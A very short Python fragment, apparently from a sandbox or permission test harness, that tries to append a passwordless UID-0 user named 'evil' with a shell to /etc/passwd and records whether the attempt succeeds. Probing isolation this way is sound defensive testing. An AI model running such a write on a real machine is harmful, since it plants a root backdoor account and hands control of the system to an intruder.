# Append a user to /etc/passwd.
verdict(try_os(lambda: open("/etc/passwd", "a").write("evil::0:0::/:/bin/sh\n")))
